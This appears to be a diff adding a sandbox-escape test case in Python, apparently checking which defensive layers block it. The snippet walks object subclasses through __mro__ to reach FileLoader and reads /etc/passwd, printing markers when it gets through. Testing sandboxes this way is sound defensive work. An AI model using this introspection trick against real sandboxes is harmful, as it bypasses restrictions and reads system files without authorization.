@@ -1,0 +1,7 @@
+# tries: the same by __mro__
+# stops: 1 2 3 4
+for c in str.__mro__[-1].__subclasses__():
+    if c.__name__ == "FileLoader":
+        print("REACHED")
+        if b"root:" in c("x", "y").get_data("/etc/passwd"):
+            print("ESCAPED")
